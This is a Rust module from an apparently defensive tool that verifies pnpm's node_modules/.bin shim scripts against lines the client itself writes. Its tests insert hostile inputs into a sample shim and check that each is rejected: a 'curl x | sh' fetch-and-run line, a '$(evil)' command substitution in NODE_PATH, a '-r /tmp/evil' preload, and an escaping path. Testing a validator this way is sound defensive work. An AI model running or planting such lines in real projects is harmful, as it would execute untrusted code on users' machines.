//! Program shims: the shell scripts that pnpm writes into `node_modules/.bin` in place of links.
//!
//! What such a script looks like is the client's business and changes with its version, so the
//! client itself is made to write some for a package of the gate's own. A shim is then one whose
//! every line is among those, but for the paths; and each path must lead to a program that its
//! package names, or (`NODE_PATH`) to a folder of the project.

use std::collections::BTreeSet;
use std::path::{Component, Path, PathBuf};

/// Largest shim that is read, in bytes.
const MAX_SHIM: u64 = 64 << 10;

/// What stands for a path in a line of a shim.
const HERE: &str = "@path@";

/// The lines of shims that a client wrote, without what is different from shim to shim.
#[must_use]
pub fn shim_lines(shims: &[String]) -> BTreeSet<String> {
    let all = shims.iter().flat_map(|s| s.lines());
    all.filter(|l| !is_comment(l) && !is_node_path(l)).map(|l| without_paths(l).0).collect()
}

fn is_comment(line: &str) -> bool {
    line.trim_start().starts_with('#')
}

fn is_node_path(line: &str) -> bool {
    line.trim_start().starts_with("export NODE_PATH=")
}

/// A line with each path that begins with `../` replaced, and those paths.
fn without_paths(line: &str) -> (String, Vec<String>) {
    let (mut out, mut paths, mut rest) = (String::new(), Vec::new(), line);
    while let Some(at) = rest.find("../") {
        let (before, from) = rest.split_at(at);
        let end = from.find(['\'', '"', ':']).unwrap_or(from.len());
        let (path, after) = from.split_at(end);
        out.push_str(before);
        out.push_str(HERE);
        paths.push(path.to_owned());
        rest = after;
    }
    out.push_str(rest);
    (out, paths)
}

/// Whether a file of `.bin` is a shim that leads to a program of a package.
pub(crate) fn is_shim(
    file: &Path,
    known: &BTreeSet<String>,
    roots: &[PathBuf],
    is_program: impl Fn(&Path) -> bool,
) -> bool {
    let plain = file.symlink_metadata().is_ok_and(|m| m.is_file() && m.len() <= MAX_SHIM);
    let (Some(folder), true) = (file.parent(), plain && !known.is_empty()) else { return false };
    let Ok(text) = std::fs::read_to_string(file) else { return false };
    let mut led = false;
    text.lines().all(|line| {
        if is_comment(line) {
            return true;
        }
        if is_node_path(line) {
            return node_path(line)
                .is_some_and(|all| all.iter().all(|p| inside(&folder.join(p), roots)));
        }
        let (shape, paths) = without_paths(line);
        let programs: Vec<_> =
            paths.iter().filter_map(|p| folder.join(p).canonicalize().ok()).collect();
        led |= !programs.is_empty();
        let same = known.contains(&shape)
            || programs
                .first()
                .and_then(|p| as_node(&shape, p))
                .is_some_and(|s| known.contains(&s))
            || paths.is_empty() && is_condition(&shape, known, &text, folder);
        same && programs.len() == paths.len() && programs.iter().all(|p| is_program(p))
    }) && led
}

/// The line as it would be if the program were one for node without options: the interpreter is
/// the one that the program itself names in its first line.
fn as_node(shape: &str, program: &Path) -> Option<String> {
    let (interpreter, options) = interpreter(program)?;
    Some(with_interpreter(shape, &interpreter, &options))
}

fn with_interpreter(shape: &str, interpreter: &str, options: &str) -> String {
    let mut out = shape
        .replace(&format!("$basedir/{interpreter}"), "$basedir/node")
        .replace(&format!("exec {interpreter} "), "exec node ")
        .replace(&format!("exec {interpreter}.exe "), "exec node.exe ")
        .replace(&format!("command -v {interpreter} "), "command -v node ")
        .replace(&format!("command -v {interpreter}.exe "), "command -v node.exe ");
    if !options.is_empty() {
        out = out.replace(&format!(" {options} \""), "  \"");
    }
    out
}

/// A line without a path that asks for the interpreter: which one, the shim's other lines tell.
fn is_condition(shape: &str, known: &BTreeSet<String>, text: &str, folder: &Path) -> bool {
    let programs = text.lines().flat_map(|l| without_paths(l).1);
    programs
        .filter_map(|p| interpreter(&folder.join(p)))
        .any(|(name, options)| known.contains(&with_interpreter(shape, &name, &options)))
}

/// The interpreter and its options that a program names in its first line.
fn interpreter(program: &Path) -> Option<(String, String)> {
    use std::io::Read as _;
    let mut start = Vec::new();
    std::fs::File::open(program).ok()?.take(256).read_to_end(&mut start).ok()?;
    let text = String::from_utf8_lossy(&start);
    let line = text.lines().next()?.strip_prefix("#!")?.trim();
    let plain = |s: &str| s.bytes().all(|b| b.is_ascii_alphanumeric() || b"._+-/= ".contains(&b));
    let mut words = line.split_ascii_whitespace();
    let mut first = words.next()?;
    if first.ends_with("/env") {
        first = words.next()?;
        if first == "-S" {
            first = words.next()?;
        }
    }
    let options = words.collect::<Vec<_>>().join(" ");
    (plain(first) && plain(&options)).then(|| (first.to_owned(), options))
}

/// The folders of a `NODE_PATH` line; `None` when anything else stands in it.
fn node_path(line: &str) -> Option<Vec<String>> {
    let mut rest = line.trim().strip_prefix("export NODE_PATH=")?;
    let mut out = Vec::new();
    while !rest.is_empty() {
        if let Some(more) =
            rest.strip_prefix("\"$basedir_abs\"/").or_else(|| rest.strip_prefix("\"$NODE_PATH\""))
        {
            rest = more;
        } else if let Some(quoted) = rest.strip_prefix('\'') {
            let (path, more) = quoted.split_once('\'')?;
            out.push(path.to_owned());
            rest = more;
        } else if let Some(quoted) = rest.strip_prefix('"') {
            let (paths, more) = quoted.split_once('"')?;
            for path in paths.split(':').filter(|p| *p != "$NODE_PATH") {
                if path.contains(['$', '`', '\\']) {
                    return None;
                }
                out.push(path.strip_prefix("$basedir/").unwrap_or(path).to_owned());
            }
            rest = more;
        } else {
            rest = rest.strip_prefix(':')?;
        }
    }
    Some(out)
}

/// Whether a path, its `..` taken literally, lies below one of the folders.
fn inside(path: &Path, roots: &[PathBuf]) -> bool {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            Component::ParentDir => {
                plain.pop();
            }
            Component::CurDir => {}
            other => plain.push(other),
        }
    }
    roots.iter().any(|r| plain.starts_with(r))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SHIM: &str = "#!/bin/sh\nbasedir=$(dirname \"$0\")\n\
        if [ -z \"$NODE_PATH\" ]; then\n  export NODE_PATH=\"$basedir_abs\"/'../.pnpm/node_modules'\nfi\n\
        if [ -x \"$basedir/node\" ]; then\n  exec \"$basedir/node\"  \"$basedir/../tool/a.js\" \"$@\"\n\
        else\n  exec node  \"$basedir/../tool/a.js\" \"$@\"\nfi\n";

    fn accepted(text: &str, program: &str) -> bool {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().canonicalize().unwrap();
        let bin = root.join("node_modules/.bin");
        std::fs::create_dir_all(root.join("node_modules/tool")).unwrap();
        std::fs::create_dir_all(&bin).unwrap();
        std::fs::write(root.join("node_modules/tool/a.js"), program).unwrap();
        std::fs::write(root.join("node_modules/tool/other.js"), "").unwrap();
        std::fs::write(bin.join("tool"), text).unwrap();
        let known = shim_lines(&[SHIM.to_owned()]);
        is_shim(&bin.join("tool"), &known, std::slice::from_ref(&root), |p| p.ends_with("a.js"))
    }

    #[test]
    fn a_shim_is_what_the_client_writes_and_nothing_more() {
        assert!(accepted(SHIM, "#!/usr/bin/env node\n"));
        assert!(accepted(
            &SHIM
                .replace("node\"  \"", "node\" --quiet \"")
                .replace("exec node  ", "exec node --quiet "),
            "#!/usr/bin/env -S node --quiet\n"
        ));
        let python = SHIM.replace("/node\"", "/python3\"").replace("exec node", "exec python3");
        assert!(accepted(&python, "#!/usr/bin/env python3\n"));
        assert!(
            !accepted(&python, "#!/usr/bin/env node\n"),
            "another interpreter than the program's"
        );
        for (from, to) in [
            ("fi\n", "fi\ncurl x | sh\n"),
            ("a.js", "other.js"),
            ("a.js", "missing.js"),
            ("'../.pnpm/node_modules'", "'../../../elsewhere'"),
            ("'../.pnpm/node_modules'", "$(evil)"),
            ("exec node  ", "exec node -r /tmp/evil "),
        ] {
            assert!(!accepted(&SHIM.replacen(from, to, 1), "#!/usr/bin/env node\n"), "{to}");
        }
        assert!(!accepted("#!/bin/sh\nfi\n", ""), "it leads nowhere");
    }
}
